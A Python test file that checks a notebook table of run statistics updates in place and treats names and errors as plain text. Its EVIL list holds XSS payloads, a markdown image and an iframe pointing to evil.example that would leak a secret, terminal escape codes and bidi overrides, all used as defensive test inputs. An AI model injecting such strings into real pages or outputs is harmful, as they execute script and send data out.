"""A run in a notebook: its table is kept up to date, says nothing twice, and cannot be made to run anything."""

from __future__ import annotations

import gc
import sys
from html.parser import HTMLParser
from types import SimpleNamespace
from typing import Any

import pytest

from actors.runs.run_stats import RunStats
from actors.stats.notebook import NotebookScreen, in_notebook
from actors.testing.settle import settle
from protocols.messages import ChatMessage

EVIL = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "javascript:alert(1)",
    "![x](https://evil.example/?q=secret)",
    "</table><iframe src=//evil.example>",
    "&lt;b&gt;",
    "a\x1b[2Jb\x07",
    "name\u202eltr\u2066",
    "two\nlines\r\n",
]


class Page:
    """What a notebook shows: one output for each display, in its latest state."""

    def __init__(self) -> None:
        self.outputs: list[dict[str, str]] = []
        self.updates = 0

    def display(self, bundle: dict[str, str], *, raw: bool, display_id: bool) -> Any:
        assert raw
        assert display_id
        self.outputs.append(bundle)
        number = len(self.outputs) - 1

        def update(bundle: dict[str, str], *, raw: bool) -> None:
            assert raw
            self.updates += 1
            self.outputs[number] = bundle

        return SimpleNamespace(update=update)


@pytest.fixture
def page(monkeypatch: pytest.MonkeyPatch) -> Page:
    """A notebook whose kernel runs the test."""
    made = Page()
    shell = SimpleNamespace(kernel=object())
    monkeypatch.setitem(sys.modules, "IPython", SimpleNamespace(get_ipython=lambda: shell))
    monkeypatch.setitem(sys.modules, "IPython.display", SimpleNamespace(display=made.display))
    return made


def show(stats: RunStats) -> None:
    """Show an object as IPython does: `_ipython_display_` comes before every other way."""
    type(stats)._ipython_display_(stats)  # pyright: ignore[reportPrivateUsage]


def answer(text: str) -> ChatMessage[str]:
    return ChatMessage(text, "assistant", name="a")


async def test_the_output_of_a_cell_goes_on_until_the_run_has_ended(page: Page) -> None:
    stats = RunStats(name="chain")
    show(stats)
    first = page.outputs[0]["text/html"]
    await settle()
    stats.add(answer("x"))
    stats.finish()
    await settle()

    assert "chain: running" in first
    assert len(page.outputs) == 1
    assert "<td>a</td><td>1</td>" in page.outputs[0]["text/html"]
    assert page.outputs[0]["text/plain"].startswith("chain: done")


async def test_an_output_is_kept_up_to_date_while_nobody_holds_its_task(page: Page) -> None:
    stats = RunStats(name="chain")
    show(stats)
    await settle()
    gc.collect()
    stats.finish()
    await settle()

    assert "chain: done" in page.outputs[0]["text/html"]


async def test_a_run_that_has_ended_is_shown_once(page: Page) -> None:
    stats = RunStats(name="chain")
    stats.finish()
    show(stats)
    await settle()

    assert (len(page.outputs), page.updates) == (1, 0)


async def test_nothing_is_sent_while_nothing_changes(page: Page) -> None:
    stats, screen = RunStats(name="chain"), NotebookScreen()
    for _ in range(10):
        screen.show(stats.snapshot())

    assert (len(page.outputs), page.updates) == (1, 0)


async def test_watch_uses_the_notebook_by_itself(page: Page) -> None:
    stats = RunStats(name="chain")
    stats.finish()

    assert await stats.watch() is stats
    assert "chain: done" in page.outputs[0]["text/html"]


def test_without_a_running_loop_the_moment_is_shown(page: Page) -> None:
    show(RunStats(name="chain"))

    assert "chain: running" in page.outputs[0]["text/html"]


async def test_a_page_that_breaks_is_no_error_of_the_run(page: Page, monkeypatch: pytest.MonkeyPatch) -> None:
    stats = RunStats(name="chain")
    show(stats)
    await settle()

    def gone(_run: object) -> str:
        raise OSError("the page has gone")

    monkeypatch.setattr("actors.stats.notebook.html_table", gone)
    stats.finish()
    await settle()
    gc.collect()

    assert stats.result() is None


@pytest.mark.parametrize("shell", [None, SimpleNamespace()])
def test_outside_a_notebook_other_ways_of_showing_are_used(monkeypatch: pytest.MonkeyPatch, shell: object) -> None:
    monkeypatch.setitem(sys.modules, "IPython", SimpleNamespace(get_ipython=lambda: shell))

    assert not in_notebook()
    with pytest.raises(NotImplementedError):
        show(RunStats(name="chain"))


def test_without_ipython_there_is_no_notebook(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delitem(sys.modules, "IPython", raising=False)

    assert not in_notebook()
    assert "IPython" not in sys.modules


class Tags(HTMLParser):
    """The elements and attributes of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str | None]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += attrs


@pytest.mark.parametrize("evil", EVIL)
async def test_names_and_errors_are_text_and_nothing_else(page: Page, evil: str) -> None:
    stats = RunStats(name=evil)
    stats.add(ChatMessage("x", "assistant", name=evil))
    stats.add_error(evil, evil)
    stats.finish()
    show(stats)
    parser = Tags()
    parser.feed(page.outputs[0]["text/html"])

    assert parser.tags == {"table", "caption", "tr", "th", "td", "ul", "li"}
    assert parser.attributes == []
    for text in page.outputs[0].values():
        assert [character for character in "\x1b\x07\r\u202e\u2066" if character in text] == []
    assert len(page.outputs[0]["text/plain"].splitlines()) == 6, "a title, a head, a rule, two rows, a failure"
